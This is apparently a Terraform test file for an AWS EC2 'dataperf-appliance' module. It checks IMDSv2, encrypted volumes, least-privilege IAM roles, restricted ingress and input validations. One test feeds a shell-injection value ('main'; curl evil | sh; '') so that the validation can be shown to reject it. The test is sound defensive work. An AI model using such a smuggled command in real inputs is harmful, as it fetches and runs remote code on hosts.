# `terraform test` (run by tests/test_terraform.py): the module's variable
# validations and the shape of what it creates, against a mocked AWS provider,
# so no credentials or network are needed. The real apply runs against a moto
# server in tests/test_terraform.py.

mock_provider "aws" {
  # The policies must at least be JSON objects for the provider's checks.
  mock_data "aws_iam_policy_document" {
    defaults = {
      json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}"
    }
  }

  # Ids in AWS's formats, for modules/instance's validations.
  mock_data "aws_ami" {
    defaults = {
      id = "ami-0fedcba9876543210"
    }
  }

  mock_resource "aws_instance" {
    defaults = {
      subnet_id = "subnet-0123456789abcdef0"
    }
  }
}

variables {
  source_repo = "https://git.example.com/dataperf-appliance.git"
}

run "defaults" {
  command = apply

  assert {
    condition     = module.appliance.instances[0].instance_type == "t3.medium"
    error_message = "The default instance type is t3.medium."
  }

  assert {
    condition     = module.appliance.instances[0].metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required."
  }

  assert {
    condition     = module.appliance.instances[0].root_block_device[0].encrypted && module.appliance.instances[0].root_block_device[0].volume_type == "gp3"
    error_message = "The root volume must be encrypted gp3."
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs) == 0
    error_message = "By default no inbound port is open."
  }

  assert {
    condition     = alltrue([for rule in aws_vpc_security_group_egress_rule.to_internet : rule.security_group_id == aws_security_group.appliance.id]) && toset([for rule in aws_vpc_security_group_egress_rule.to_internet : "${rule.from_port} ${coalesce(rule.cidr_ipv4, rule.cidr_ipv6)}"]) == toset(["443 0.0.0.0/0", "443 ::/0", "80 0.0.0.0/0", "80 ::/0"])
    error_message = "Out: HTTPS and HTTP only, over IPv4 and IPv6."
  }

  assert {
    condition     = aws_iam_role_policy.ssm_agent.role == aws_iam_role.appliance.id && aws_iam_role_policy.appliance.role == aws_iam_role.appliance.id
    error_message = "The role has its own policy and the SSM agent's (Session Manager), both inline."
  }

  assert {
    condition = alltrue(flatten([
      for statement in data.aws_iam_policy_document.ssm_agent.statement : [
        for action in statement.actions : !startswith(action, "ssm:Get") && !endswith(action, "*") && contains(["ssm", "ssmmessages", "ec2messages"], split(":", action)[0])
      ]
    ]))
    error_message = "The SSM agent's policy names its actions one by one, and none reads a parameter (no ssm:GetParameter(s) on *)."
  }

  assert {
    condition     = contains(data.aws_iam_policy_document.ssm_agent.statement[0].actions, "ssm:UpdateInstanceInformation") && contains(data.aws_iam_policy_document.ssm_agent.statement[0].actions, "ssmmessages:OpenDataChannel")
    error_message = "The SSM agent may register the instance and open Session Manager's channels."
  }

  assert {
    condition     = !contains(tolist(data.aws_iam_policy_document.bucket_access.statement[1].actions), "s3:DeleteObject")
    error_message = "The role may not delete objects in general."
  }

  assert {
    condition     = contains(data.aws_iam_policy_document.appliance.source_policy_documents, data.aws_iam_policy_document.bucket_access.json) && data.aws_iam_policy_document.appliance.statement[0].actions == toset(["s3:DeleteObject"]) && data.aws_iam_policy_document.appliance.statement[0].resources == toset(["${aws_s3_bucket.data.arn}/dataperf-appliance/datasets/*"])
    error_message = "The role may delete objects under the datasets prefix only (runs stay append-only)."
  }

  assert {
    condition     = module.appliance.instances[0].metadata_options[0].http_put_response_hop_limit == 2
    error_message = "The metadata service's hop limit is 2: the appliance's container gets the role's credentials through Docker's bridge."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "public_https='false'") && strcontains(module.appliance.instances[0].user_data, "--publish 127.0.0.1:8501:8501 --publish 127.0.0.1:8080:8080")
    error_message = "By default the appliance's ports are bound to 127.0.0.1 (reached through SSM port forwarding)."
  }

  assert {
    condition     = !aws_s3_bucket.data.force_destroy
    error_message = "force_destroy is off unless asked for."
  }

  assert {
    condition     = aws_s3_bucket_versioning.data.versioning_configuration[0].status == "Enabled"
    error_message = "Versioning must be on."
  }

  assert {
    condition = alltrue([
      aws_s3_bucket_public_access_block.data.block_public_acls,
      aws_s3_bucket_public_access_block.data.block_public_policy,
      aws_s3_bucket_public_access_block.data.ignore_public_acls,
      aws_s3_bucket_public_access_block.data.restrict_public_buckets,
    ])
    error_message = "All public access must be blocked."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "--env APPLIANCE_S3_BUCKET=\"$bucket\"") && strcontains(module.appliance.instances[0].user_data, "bucket='${aws_s3_bucket.data.id}'")
    error_message = "The user data runs the appliance with APPLIANCE_S3_BUCKET set to the bucket."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "--restart unless-stopped")
    error_message = "The appliance runs with a restart policy."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "source_repo='https://git.example.com/dataperf-appliance.git'") && strcontains(module.appliance.instances[0].user_data, "image=''")
    error_message = "Without image, the user data builds from source_repo."
  }

  assert {
    condition     = alltrue([for parameter in aws_ssm_parameter.password : parameter.type == "SecureString"])
    error_message = "The passwords are SecureString parameters."
  }

  assert {
    condition     = length(data.aws_iam_policy_document.bucket_access.statement[0].condition) == 1
    error_message = "Listing the bucket is limited to the prefix."
  }

  assert {
    condition     = data.aws_iam_policy_document.bucket_access.statement[1].resources == toset(["${aws_s3_bucket.data.arn}/dataperf-appliance/*"])
    error_message = "Objects are read and written under the prefix only."
  }

  assert {
    condition     = output.streamlit_url == "http://localhost:8501" && output.airflow_url == "http://localhost:8080"
    error_message = "By default the URLs are the ends of the SSM port forwards."
  }

  assert {
    condition     = strcontains(output.ssm_shell_command, "aws ssm start-session --region us-east-1 --target ") && strcontains(output.ssm_port_forward_commands["streamlit"], "--document-name AWS-StartPortForwardingSession --parameters portNumber=8501,localPortNumber=8501") && strcontains(output.ssm_port_forward_commands["airflow"], "portNumber=8080,localPortNumber=8080")
    error_message = "The outputs give the SSM shell and port-forward commands."
  }

  assert {
    condition     = output.ssh_command == null
    error_message = "No SSH command without key_name."
  }
}

run "ssh_only_with_a_key" {
  command = plan

  variables {
    key_name      = "my-key"
    allowed_cidrs = ["203.0.113.7/32"]
  }

  assert {
    condition     = toset([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.from_port]) == toset([22])
    error_message = "With key_name, SSH (22) alone is open, to allowed_cidrs."
  }

  assert {
    condition     = alltrue([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.cidr_ipv4 == "203.0.113.7/32" && rule.cidr_ipv6 == null])
    error_message = "Ingress is from allowed_cidrs only."
  }
}

run "https_self_signed" {
  command = apply

  variables {
    public_https  = true
    allowed_cidrs = ["203.0.113.7/32"]
  }

  assert {
    condition     = toset([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.from_port]) == toset([443, 8443])
    error_message = "With public_https, HTTPS (443 and 8443) alone is open: never 8501 or 8080."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "public_https='true'") && strcontains(module.appliance.instances[0].user_data, "domain=''")
    error_message = "The user data runs the TLS proxy with a certificate of its own CA."
  }

  assert {
    condition     = startswith(output.streamlit_url, "https://") && startswith(output.airflow_url, "https://") && endswith(output.airflow_url, ":8443")
    error_message = "With public_https the URLs are HTTPS."
  }
}

run "https_with_a_domain" {
  command = plan

  variables {
    public_https  = true
    domain        = "appliance.example.com"
    allowed_cidrs = ["0.0.0.0/0"]
    allow_public  = true
  }

  assert {
    condition     = toset([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.from_port]) == toset([80, 443, 8443])
    error_message = "With a domain, port 80 opens too, for Let's Encrypt."
  }

  assert {
    condition     = output.streamlit_url == "https://appliance.example.com" && output.airflow_url == "https://appliance.example.com:8443"
    error_message = "With a domain, the URLs name it."
  }
}

run "https_without_cidrs_refused" {
  command = plan

  variables {
    public_https = true
  }

  expect_failures = [var.allowed_cidrs]
}

run "the_internet_split_in_halves_refused" {
  command = plan

  variables {
    public_https  = true
    allowed_cidrs = ["0.0.0.0/1", "128.0.0.0/1"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "the_internet_split_in_many_blocks_refused" {
  command = plan

  variables {
    public_https  = true
    allowed_cidrs = [for first in range(0, 256, 8) : "${first}.0.0.0/5"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "ipv6_internet_split_refused" {
  command = plan

  variables {
    public_https  = true
    allowed_cidrs = ["2000::/4", "3000::/4"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "prebuilt_image" {
  command = apply

  variables {
    source_repo = null
    image       = "ghcr.io/example/dataperf-appliance:1.0"
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "image='ghcr.io/example/dataperf-appliance:1.0'") && strcontains(module.appliance.instances[0].user_data, "source_repo=''")
    error_message = "With image, the user data pulls it."
  }
}

run "ipv6_and_whole_bucket" {
  command = apply

  variables {
    allowed_cidrs = ["203.0.113.7/32", "2001:db8::/64"]
    public_https  = true
    s3_prefix     = ""
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs) == 4 && toset([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.cidr_ipv4 if rule.cidr_ipv4 != null]) == toset(["203.0.113.7/32"]) && toset([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.cidr_ipv6 if rule.cidr_ipv6 != null]) == toset(["2001:db8::/64"])
    error_message = "IPv6 blocks go to cidr_ipv6: one rule per port and block."
  }

  assert {
    condition     = length(data.aws_iam_policy_document.bucket_access.statement[0].condition) == 0
    error_message = "With an empty prefix the whole bucket is listed."
  }

  assert {
    condition     = data.aws_iam_policy_document.appliance.statement[0].resources == toset(["${aws_s3_bucket.data.arn}/datasets/*"])
    error_message = "With an empty prefix, deletion is still limited to datasets/."
  }
}

run "graviton_gets_arm64" {
  command = plan

  variables {
    instance_type = "t4g.medium"
  }

  assert {
    condition     = contains(data.aws_ami.al2023[0].filter[*].values, toset(["arm64"]))
    error_message = "A Graviton type looks up an arm64 AMI."
  }

  assert {
    condition     = module.appliance.instances[0].credit_specification[0].cpu_credits == "unlimited"
    error_message = "Burstable types get the cpu_credits setting."
  }
}

run "given_ami_skips_the_lookup" {
  command = plan

  variables {
    ami_id        = "ami-0123456789abcdef0"
    instance_type = "m6i.large"
  }

  assert {
    condition     = length(data.aws_ami.al2023) == 0 && module.appliance.instances[0].ami == "ami-0123456789abcdef0"
    error_message = "ami_id replaces the lookup."
  }

  assert {
    condition     = length(module.appliance.instances[0].credit_specification) == 0
    error_message = "Non-burstable types get no credit specification."
  }
}

run "public_cidr_refused" {
  command = plan

  variables {
    allowed_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "public_ipv6_refused" {
  command = plan

  variables {
    allowed_cidrs = ["203.0.113.7/32", "::/0"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "public_cidr_allowed_when_asked" {
  command = plan

  variables {
    allowed_cidrs = ["0.0.0.0/0"]
    allow_public  = true
    public_https  = true
  }

  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs) == 2 && alltrue([for rule in aws_vpc_security_group_ingress_rule.appliance_from_allowed_cidrs : rule.cidr_ipv4 == "0.0.0.0/0"])
    error_message = "allow_public lets 0.0.0.0/0 in."
  }
}

run "ssh_without_cidrs_refused" {
  command = plan

  variables {
    key_name = "my-key"
  }

  expect_failures = [var.allowed_cidrs]
}

run "malformed_cidr_refused" {
  command = plan

  variables {
    allowed_cidrs = ["203.0.113.7"]
  }

  expect_failures = [var.allowed_cidrs]
}

run "small_instance_refused" {
  command = plan

  variables {
    instance_type = "t3.micro"
  }

  expect_failures = [var.instance_type]
}

run "unknown_instance_type_refused" {
  command = plan

  variables {
    instance_type = "p5.48xlarge"
  }

  expect_failures = [var.instance_type]
}

run "neither_image_nor_source_refused" {
  command = plan

  variables {
    source_repo = null
  }

  expect_failures = [var.image]
}

run "both_image_and_source_refused" {
  command = plan

  variables {
    image = "ghcr.io/example/dataperf-appliance:1.0"
  }

  expect_failures = [var.image]
}

run "shell_metacharacters_refused" {
  command = plan

  variables {
    source_ref = "main'; curl evil | sh; '"
  }

  expect_failures = [var.source_ref]
}

run "bad_prefix_refused" {
  command = plan

  variables {
    s3_prefix = "/data"
  }

  expect_failures = [var.s3_prefix]
}

run "defaults_have_no_workers" {
  command = plan

  assert {
    condition     = length(module.workers.instances) == 0 && length(aws_efs_file_system.data) == 0 && length(aws_security_group.cluster) == 0 && length(aws_ssm_parameter.worker_env) == 0 && length(aws_iam_role.worker) == 0 && length(aws_iam_instance_profile.worker) == 0
    error_message = "workers = 0 (the default) adds nothing to the single instance."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "workers='0'") && strcontains(module.appliance.instances[0].user_data, "efs_id=''")
    error_message = "Without workers the appliance keeps its LocalExecutor and local data root."
  }
}

run "two_workers" {
  command = apply

  variables {
    workers = 2
  }

  assert {
    condition     = length(module.workers.instances) == 2 && alltrue([for worker in module.workers.instances : worker.ami == module.appliance.instances[0].ami && worker.instance_type == module.appliance.instances[0].instance_type])
    error_message = "Two workers, from the main instance's AMI and type."
  }

  assert {
    condition     = alltrue([for worker in module.workers.instances : strcontains(worker.user_data, "role='worker'") && strcontains(worker.user_data, "efs_id='${aws_efs_file_system.data[0].id}'")])
    error_message = "The workers boot in the worker role and mount the shared EFS data root."
  }

  assert {
    condition     = strcontains(module.appliance.instances[0].user_data, "role='appliance'") && strcontains(module.appliance.instances[0].user_data, "workers='2'") && strcontains(module.appliance.instances[0].user_data, "efs_id='${aws_efs_file_system.data[0].id}'")
    error_message = "The main instance mounts the same EFS data root and knows it has workers."
  }

  assert {
    condition     = aws_efs_file_system.data[0].encrypted && aws_efs_mount_target.data[0].subnet_id == module.appliance.instances[0].subnet_id
    error_message = "The EFS file system is encrypted and mounted in the main instance's subnet."
  }

  assert {
    condition     = contains(module.appliance.instances[0].vpc_security_group_ids, aws_security_group.cluster["main"].id) && toset(module.workers.instances[0].vpc_security_group_ids) == toset([aws_security_group.cluster["workers"].id])
    error_message = "The main instance gets the cluster group; the workers only their own."
  }

  assert {
    condition     = alltrue([for rule in aws_vpc_security_group_ingress_rule.main_from_workers : rule.referenced_security_group_id == aws_security_group.cluster["workers"].id]) && toset([for rule in aws_vpc_security_group_ingress_rule.main_from_workers : rule.from_port]) == toset([5432, 6379, 8080])
    error_message = "PostgreSQL, Redis and the execution API are opened to the workers' group only."
  }

  assert {
    condition     = alltrue([for rule in aws_vpc_security_group_ingress_rule.efs_from_clients : rule.from_port == 2049 && rule.referenced_security_group_id != null])
    error_message = "NFS is opened to the main instance's and the workers' groups only."
  }

  assert {
    condition     = aws_ssm_parameter.worker_env[0].type == "SecureString"
    error_message = "The workers' settings (with secrets) are a SecureString."
  }

  assert {
    condition     = alltrue([for worker in module.workers.instances : worker.iam_instance_profile == aws_iam_instance_profile.worker[0].name && worker.iam_instance_profile != module.appliance.instances[0].iam_instance_profile])
    error_message = "The workers run under an instance profile of their own, not the main instance's."
  }

  assert {
    condition     = aws_iam_instance_profile.worker[0].role == aws_iam_role.worker[0].name && aws_iam_role.worker[0].name != aws_iam_role.appliance.name && aws_iam_role_policy.worker[0].role == aws_iam_role.worker[0].id && aws_iam_role_policy.worker_ssm_agent[0].role == aws_iam_role.worker[0].id && aws_iam_role_policy.worker_ssm_agent[0].policy == aws_iam_role_policy.ssm_agent.policy
    error_message = "The workers' profile holds the workers' role: their own policy and the SSM agent's."
  }

  assert {
    condition = alltrue(flatten([
      for statement in concat(data.aws_iam_policy_document.worker[0].statement, data.aws_iam_policy_document.bucket_access.statement) : [
        for action in statement.actions : contains(["s3:ListBucket", "s3:GetObject", "s3:PutObject", "s3:AbortMultipartUpload", "ssm:GetParameter"], action)
      ]
    ]))
    error_message = "The workers may list, read and write the bucket and read a parameter, nothing else: no s3:DeleteObject, no ssm:PutParameter."
  }

  assert {
    condition     = data.aws_iam_policy_document.worker[0].statement[0].resources == toset([aws_ssm_parameter.worker_env[0].arn]) && contains(data.aws_iam_policy_document.worker[0].source_policy_documents, data.aws_iam_policy_document.bucket_access.json) && data.aws_iam_policy_document.bucket_access.statement[1].resources == toset(["${aws_s3_bucket.data.arn}/dataperf-appliance/*"])
    error_message = "The workers read their settings only (not the passwords), and objects under the prefix only."
  }

  assert {
    condition     = alltrue([for worker in module.workers.instances : worker.metadata_options[0].http_put_response_hop_limit == 2 && worker.metadata_options[0].http_tokens == "required"])
    error_message = "The workers' metadata service: IMDSv2, 2 hops (their container syncs with S3 under the role)."
  }

  assert {
    condition     = toset([for key, rule in aws_vpc_security_group_egress_rule.to_internet : "${rule.from_port} ${rule.cidr_ipv4}" if rule.security_group_id == aws_security_group.cluster["workers"].id]) == toset(["443 0.0.0.0/0", "80 0.0.0.0/0"])
    error_message = "The workers go out to the internet over HTTPS and HTTP (IPv4)."
  }

  assert {
    condition     = [for worker in module.workers.instances : worker.tags["Name"]] == ["dataperf-appliance-worker-1", "dataperf-appliance-worker-2"] && module.appliance.instances[0].tags["Name"] == "dataperf-appliance"
    error_message = "The instances are named after the deployment."
  }
}

run "fractional_workers_refused" {
  command = plan
  variables {
    workers = 1.5
  }
  expect_failures = [var.workers]
}

run "negative_workers_refused" {
  command = plan
  variables {
    workers = -1
  }
  expect_failures = [var.workers]
}

run "worker_of_another_architecture_refused" {
  command = plan
  variables {
    workers              = 1
    worker_instance_type = "t4g.medium"
  }
  expect_failures = [var.worker_instance_type]
}

# modules/instance alone: one instance per name, and its own validations.

run "instance_module_one_instance_per_name" {
  command = plan

  module {
    source = "./modules/instance"
  }

  variables {
    names                  = ["first", "second"]
    ami_id                 = "ami-0123456789abcdef0"
    instance_type          = "m6i.large"
    vpc_security_group_ids = ["sg-0123456789abcdef0"]
    iam_instance_profile   = "a-profile"
    user_data              = "#!/bin/bash\n"
  }

  assert {
    condition     = [for instance in aws_instance.this : instance.tags["Name"]] == ["first", "second"] && alltrue([for instance in aws_instance.this : instance.metadata_options[0].http_tokens == "required" && instance.metadata_options[0].http_put_response_hop_limit == 2 && instance.root_block_device[0].encrypted && instance.user_data_replace_on_change])
    error_message = "One instance per name, each with IMDSv2 (2 hops), an encrypted root volume, and replaced on a new user data."
  }

  assert {
    condition     = alltrue([for instance in aws_instance.this : length(instance.credit_specification) == 0])
    error_message = "Only burstable types get a credit specification."
  }
}

run "instance_module_refuses_bad_input" {
  command = plan

  module {
    source = "./modules/instance"
  }

  variables {
    names                  = ["twice", "twice"]
    ami_id                 = "ami-nope"
    instance_type          = "large"
    cpu_credits            = "some"
    vpc_security_group_ids = [for group in range(6) : "sg-${group}"]
    iam_instance_profile   = "a profile"
    user_data              = format("%16385s", "")
    root_volume_size       = 0.5
    metadata_hop_limit     = 0
  }

  expect_failures = [var.names, var.ami_id, var.instance_type, var.cpu_credits, var.vpc_security_group_ids, var.iam_instance_profile, var.user_data, var.root_volume_size, var.metadata_hop_limit]
}

run "instance_module_needs_a_group_and_a_profile" {
  command = plan

  module {
    source = "./modules/instance"
  }

  variables {
    names                  = ["first"]
    ami_id                 = "ami-0123456789abcdef0"
    instance_type          = "t3.medium"
    vpc_security_group_ids = []
    iam_instance_profile   = null
    user_data              = "#!/bin/bash\n"
  }

  expect_failures = [aws_instance.this]
}
